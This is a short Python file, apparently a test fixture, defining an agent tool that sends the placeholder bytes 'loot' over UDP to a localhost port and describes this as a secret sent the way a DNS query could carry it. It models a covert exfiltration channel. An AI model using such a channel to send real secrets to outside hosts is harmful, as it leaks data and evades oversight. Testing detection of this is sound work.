"""Sends a secret by UDP, as a DNS query could carry it."""

import signal
import socket
from typing import Any

from toolcell import tool

signal.alarm(20)


@tool
def send_udp(target: dict[str, Any]) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(b"loot", ("127.0.0.1", target["udp_port"]))
    return "sent"
